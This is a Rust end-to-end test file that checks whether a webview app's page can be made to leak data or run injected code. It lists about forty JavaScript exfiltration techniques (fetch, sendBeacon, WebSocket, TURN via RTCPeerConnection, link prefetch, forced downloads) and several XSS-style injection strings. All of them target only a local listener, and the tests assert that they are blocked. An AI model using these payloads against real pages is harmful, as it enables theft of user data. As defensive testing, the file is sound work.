//! If something foreign ever ran in the page: it cannot leave, reach out, write files, or call what is not on the
//! list. All probes point at a listener on this computer, never at a public host.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::thread::{JoinHandle, spawn};
use std::time::Duration;

use hamstrong_e2e::{App, Outcome, until};
use serde_json::{Value, json};

use crate::doing::{injured, on_today, rate};

/// Each is tried in the page with `url`, a place that nothing of ours speaks to. What is refused by an exception and
/// what is refused in silence differs; that nothing arrives and the page stays is the same.
const WAYS_OUT: [&str; 40] = [
    // Navigations.
    "location.href = url",
    "location.assign(url)",
    "location.replace(url)",
    "const a = document.createElement('a'); a.href = url; document.body.append(a); a.click()",
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + url; document.head.append(m)",
    "navigation.navigate(url)",
    "location.href = 'javascript:fetch(\"' + url + '\")'",
    "const f = document.createElement('form'); f.action = url; document.body.append(f); f.submit()",
    "const f = document.createElement('form'); f.action = url; f.method = 'post'; f.target = '_blank'; document.body.append(f); f.requestSubmit()",
    // New windows and downloads.
    "open(url)",
    "open(url, '_self')",
    "const a = document.createElement('a'); a.href = url; a.target = '_blank'; a.rel = 'opener'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = 'data:text/plain,secret'; a.download = 'stolen.txt'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['secret'])); a.download = 'stolen.txt'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = url; a.download = 'stolen.txt'; document.body.append(a); a.click()",
    // Requests.
    "await fetch(url)",
    "await fetch(url, { mode: 'no-cors', method: 'post', body: 'secret', keepalive: true })",
    "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()",
    "navigator.sendBeacon(url, 'secret')",
    "new WebSocket(url.replace('http', 'ws'))",
    "new EventSource(url)",
    "const a = document.createElement('a'); a.href = '#x'; a.ping = url; document.body.append(a); a.click()",
    "const c = new RTCPeerConnection({ iceServers: [{ urls: url.replace('http://', 'turn:').replace('/?d=secret', '?transport=tcp'), username: 'a', credential: 'b' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())",
    "await navigator.serviceWorker.register(url)",
    "new Worker(url)",
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + url + '\")'])))",
    "await import(url)",
    // Things to look at, and to have ready.
    "const i = document.createElement('iframe'); i.src = url; document.body.append(i)",
    "const i = document.createElement('iframe'); i.srcdoc = '<img src=' + url + '>'; document.body.append(i)",
    "const o = document.createElement('object'); o.data = url; document.body.append(o)",
    "const e = document.createElement('embed'); e.src = url; document.body.append(e)",
    "const i = new Image(); i.src = url; document.body.append(i)",
    "const v = document.createElement('video'); v.src = url; document.body.append(v); v.load()",
    "const s = document.createElement('script'); s.src = url; document.head.append(s)",
    "document.body.style.backgroundImage = 'url(' + url + ')'",
    "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', url); s.append(i); document.body.append(s)",
    "const f = new FontFace('stolen', 'url(' + url + ')'); document.fonts.add(f); await f.load()",
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; document.head.append(l)",
    "for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = url; document.head.append(l) }",
    "for (const rel of ['preconnect', 'dns-prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = url; document.head.append(l) }",
];

/// Somebody who waits outside, and writes down what is sent.
struct Outside {
    address: SocketAddr,
    hearing: JoinHandle<Vec<String>>,
}

const LAST: &str = "the last word";

impl Outside {
    fn open() -> Outcome<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        Ok(Self { address: listener.local_addr()?, hearing: spawn(move || hear(&listener)) })
    }

    /// Everything sent. Connections are taken in their order, so all others came before our own.
    fn heard(self) -> Outcome<Vec<String>> {
        TcpStream::connect(self.address)?.write_all(LAST.as_bytes())?;
        self.hearing.join().map_err(|_| "the listener failed".into())
    }
}

/// A connection over which nothing is said counts as well.
fn hear(listener: &TcpListener) -> Vec<String> {
    let mut heard = Vec::new();
    for mut stream in listener.incoming().flatten() {
        let mut said = [0; 256];
        let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
        let length = stream.read(&mut said).unwrap_or_default();
        match String::from_utf8_lossy(&said[..length]).into_owned() {
            words if words == LAST => break,
            words if words.is_empty() => heard.push("a connection without a word".to_owned()),
            words => heard.push(words),
        }
    }
    heard
}

/// Tries every way out of a window's page, which must stay where it is.
async fn nothing_gets_out(app: &App<'_>, place: &str) -> Outcome {
    let outside = Outside::open()?;
    let url = format!("http://{}/?d=secret", outside.address);
    let violations = app.violations().await?.len();
    for way in WAYS_OUT {
        let body = format!("const [url] = values; {way}");
        // One that never answers must not hold the others up.
        let once = format!(
            "await Promise.race([(async () => {{ {body} }})(), new Promise((r) => setTimeout(r, 400))])"
        );
        let _ = app.does(&once, vec![json!(url)]).await;
        assert_eq!(app.place().await?, place, "still our page after: {way}");
    }
    until("the policy's reports", async || {
        Ok((app.violations().await?.len() >= violations + 4).then_some(()))
    })
    .await?;
    assert_eq!(outside.heard()?, Vec::<String>::new());
    assert!(!std::path::Path::new("stolen.txt").exists());
    Ok(())
}

#[tokio::test]
async fn a_hostile_script_can_neither_leave_the_page_nor_reach_out() -> Outcome {
    let profile = injured()?;
    let app = on_today(&profile).await?;
    nothing_gets_out(&app, "today").await?;
    rate(&app, "Walking on the flat", "2").await?;
    assert!(!profile.data().join("stolen.txt").exists());
    Ok(())
}

#[tokio::test]
async fn a_hostile_script_can_neither_leave_the_small_window_nor_reach_out() -> Outcome {
    let profile = injured()?;
    let app = App::start_quick(&profile).await?;
    nothing_gets_out(&app, "quick").await?;
    // Nor to the page of the other window.
    let _ = app.does("location.href = '/index.html'", vec![]).await;
    assert_eq!(app.place().await?, "quick");
    assert!(!profile.data().join("stolen.txt").exists());
    Ok(())
}

const MARKUP_AND_CODE: [&str; 7] = [
    "document.body.innerHTML = '<img src=x onerror=\"window.stolen = 1\">'",
    "document.write('<script>window.stolen = 1</scr' + 'ipt>')",
    "eval('window.stolen = 1')",
    "new Function('window.stolen = 1')()",
    "setTimeout('window.stolen = 1', 0)",
    "const s = document.createElement('script'); s.textContent = 'window.stolen = 1'; document.body.append(s)",
    "trustedTypes.createPolicy('mine', { createHTML: (html) => html })",
];

async fn no_markup_and_no_code(app: &App<'_>) -> Outcome {
    for way in MARKUP_AND_CODE {
        assert!(app.does(way, vec![]).await.is_err(), "refused: {way}");
    }
    assert_eq!(app.ask("window.stolen ?? null", vec![]).await?, Value::Null);
    Ok(())
}

#[tokio::test]
async fn a_hostile_script_cannot_make_markup_or_code() -> Outcome {
    let profile = injured()?;
    let app = on_today(&profile).await?;
    no_markup_and_no_code(&app).await?;
    app.comes_to("today").await
}

#[tokio::test]
async fn a_hostile_script_cannot_make_markup_or_code_in_the_small_window() -> Outcome {
    let profile = injured()?;
    let app = App::start_quick(&profile).await?;
    no_markup_and_no_code(&app).await?;
    app.comes_to("quick").await
}
